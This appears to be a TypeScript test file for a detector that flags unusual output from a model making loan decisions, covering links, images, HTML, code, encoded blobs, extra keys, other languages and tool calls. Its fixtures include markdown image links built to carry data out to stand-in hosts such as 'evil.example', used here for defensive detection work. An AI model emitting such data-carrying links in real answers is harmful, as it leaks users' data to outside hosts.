import { describe, expect, it } from 'vitest';
import { anomalyVerdict } from './anomaly-verdict.ts';
import { measures, type OutputFeatures, outputFeatures } from './features.ts';
import { languageOf } from './language.ts';
import { anomaliesOf, binOf, boundsOf, type OutputProfile } from './profile.ts';

const settings = { warmupAnswers: 50, tolerance: 6 };

function profileOf(answers: readonly OutputFeatures[]): OutputProfile {
  const count = <Value>(values: readonly Value[]) => {
    const counts = new Map<Value, number>();
    for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
    return counts;
  };
  return {
    answers: answers.length,
    bins: Object.fromEntries(
      measures.map((measure) => [measure, count(answers.map(({ measured }) => binOf(measured[measure])))]),
    ),
    forms: count(answers.map(({ form }) => form)),
    languages: count(answers.flatMap(({ language }) => language ?? [])),
  };
}

/** Deterministic numbers from 0 up to 1 (Park and Miller). */
function numbers(seed: number): () => number {
  let state = seed;
  return () => (state = (state * 48_271) % 2_147_483_647) / 2_147_483_647;
}

const sentences = [
  'The income of the applicant covers the instalments with a margin that is well above the limit.',
  'No arrears were recorded in the last two years, and the employer has confirmed the contract.',
  'The value of the property was appraised by an expert and is not in doubt.',
  'A guarantor has signed for the first year of the loan, which lowers the risk of a default.',
];

function answerOf(next: () => number): string {
  const said = Array.from({ length: 1 + Math.floor(next() * 4) }, () => sentences[Math.floor(next() * 4)]);
  const reasons = Array.from({ length: 1 + Math.floor(next() * 3) }, () => `R${Math.floor(next() * 9)}`);
  return JSON.stringify({
    outcome: next() < 0.7 ? 'approve' : 'decline',
    reasons,
    explanation: said.join(' '),
  });
}

function featuresOf(text: string, toolCalls = 0): OutputFeatures {
  const parsed: unknown = text.startsWith('{') ? JSON.parse(text) : null;
  return outputFeatures({ text, parsed, toolCalls });
}

function honest(count: number, seed: number): OutputFeatures[] {
  const next = numbers(seed);
  return Array.from({ length: count }, () => featuresOf(answerOf(next)));
}

describe('what is usual', () => {
  it('is not known before the warm-up is over', () => {
    expect(boundsOf(profileOf(honest(49, 7)), settings)).toBeNull();
    expect(boundsOf(profileOf(honest(50, 7)), settings)).not.toBeNull();
  });

  const bounds = boundsOf(profileOf(honest(300, 1)), settings);
  if (bounds === null) throw new Error('300 answers are more than the warm-up');

  it('holds honest answers that the profile has not seen', () => {
    const unusual = honest(2_000, 2).filter((features) => anomaliesOf(features, bounds).length > 0);
    expect(unusual.length).toBeLessThanOrEqual(10);
  });

  const fine = { outcome: 'approve', reasons: ['R1'], explanation: sentences.slice(0, 2).join(' ') };
  const saying = (explanation: string) => JSON.stringify({ ...fine, explanation });
  it.each<[string, string, string[]]>([
    ['a link', saying(`${sentences[0]} See https://example.org/a?d=81.`), ['links']],
    [
      'an image that carries data out',
      saying(`${sentences[0]} ![](https://x.example/p.png?q=81)`),
      ['links', 'images'],
    ],
    ['HTML', saying(`${sentences[0]} <img src="x"><b>now</b>`), ['images', 'markup']],
    ['code', saying(`${sentences[1]}\n\`\`\`\nimport os\n\`\`\``), ['code']],
    ['an encoded blob', saying(`${sentences[1]} ${'QUJDREVGR0hJSktMTU5PUA'.repeat(5)}`), ['encoded']],
    ['a flood', saying(Array.from({ length: 200 }, () => sentences[0]).join(' ')), ['characters']],
    [
      'many more keys',
      JSON.stringify({ ...fine, ...Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, i])) }),
      ['keys'],
    ],
    ['plain text', sentences.join(' '), ['keys', 'form']],
    [
      'another language',
      saying(
        'Der Antrag wird nicht genehmigt, und die Raten sind mit dem Einkommen auch nach der Prüfung nicht zu decken.',
      ),
      ['language'],
    ],
  ])('does not hold %s', (_, text, names) => {
    expect(anomaliesOf(featuresOf(text), bounds)).toEqual(expect.arrayContaining(names));
    expect(anomaliesOf(featuresOf(JSON.stringify(fine)), bounds)).toEqual([]);
  });

  it('does not hold a tool call where none was ever made', () => {
    expect(anomaliesOf(featuresOf(JSON.stringify(fine), 1), bounds)).toEqual(['toolCalls']);
  });

  it('takes in a second habit, and not a single slip among many', () => {
    const next = numbers(3);
    const linked = featuresOf(saying(`${sentences[0]} See https://example.org/terms.`));
    const often = Array.from({ length: 400 }, (_, i) => (i % 4 === 0 ? linked : featuresOf(answerOf(next))));
    const once = [linked, ...honest(400, 5)];
    const usualLinks = (answers: readonly OutputFeatures[]) =>
      boundsOf(profileOf(answers), settings)?.usual.links?.high;
    expect([usualLinks(often), usualLinks(once)]).toEqual([1, 0]);
  });

  it('follows the scale of the type, not a number of ours', () => {
    const scaled = (factor: number) =>
      honest(200, 9).map(({ measured, form, language }) => {
        const characters = measured.characters * factor;
        return { measured: Object.assign({}, measured, { characters }), form, language };
      });
    const high = (factor: number) =>
      boundsOf(profileOf(scaled(factor)), settings)?.usual.characters?.high ?? 0;
    expect(high(50) / high(1)).toBeGreaterThan(35);
    expect(high(50) / high(1)).toBeLessThan(70);
  });

  it('leads to the verdict that the type asks for, without a word of the answer', () => {
    const features = featuresOf(
      saying('Go to https://evil.example/81 and see ![x](https://evil.example/82).'),
    );
    expect(anomalyVerdict(features, bounds, 'record').kind).toBe('pass');
    expect(anomalyVerdict(features, bounds, 'refuse').kind).toBe('refuse');
    const verdict = anomalyVerdict(features, bounds, 'review');
    expect(verdict).toMatchObject({
      kind: 'review',
      gate: 'output',
      reasons: ['OUTPUT_UNUSUAL'],
      detail: 'unusual links, images',
    });
    expect(verdict.findings.map(({ rule }) => rule)).toEqual(['unusual-links', 'unusual-images']);
    expect(JSON.stringify(verdict)).not.toContain('evil');
  });
});

describe('the language of an answer', () => {
  it.each([
    ['en', 'The decision was made for this applicant, and the terms are those that have been agreed.'],
    [
      'de',
      'Die Entscheidung ist nach Prüfung der Unterlagen gefallen und wird für den Antrag nicht geändert.',
    ],
    [
      'fr',
      'La décision est prise pour les deux dossiers, et les pièces qui ont été versées sont avec le contrat.',
    ],
    ['es', 'La decisión es para los dos solicitantes, pero con una garantía más alta que las del contrato.'],
    [
      'it',
      'La decisione è per il cliente, con una garanzia che non sono gli altri anche della banca a dare.',
    ],
    [
      'pl',
      'Decyzja nie jest ostateczna, oraz klient może się odwołać przez formularz, który jest na stronie.',
    ],
    ['cyrillic', 'Решение по заявке принято, и заявитель может обжаловать его в течение месяца.'],
    ['zh', '根据申请人的收入和信用记录，我们建议批准这笔贷款，期限为六十个月，利率固定不变。'],
    ['el', 'Η απόφαση για την αίτηση ελήφθη και ο πελάτης μπορεί να την προσβάλει.'],
  ])('%s', (language, text) => {
    expect(languageOf(text)).toBe(language);
  });

  it('is left open where nobody could tell', () => {
    expect(languageOf('approve R1 R2 0.83')).toBeNull();
    expect(languageOf('')).toBeNull();
    expect(
      languageOf('IBAN BIC EUR GmbH XETRA ISIN LEI MiFID EBITDA SEPA KYC AML CFT FATCA CRS DORA'),
    ).toBeNull();
  });
});
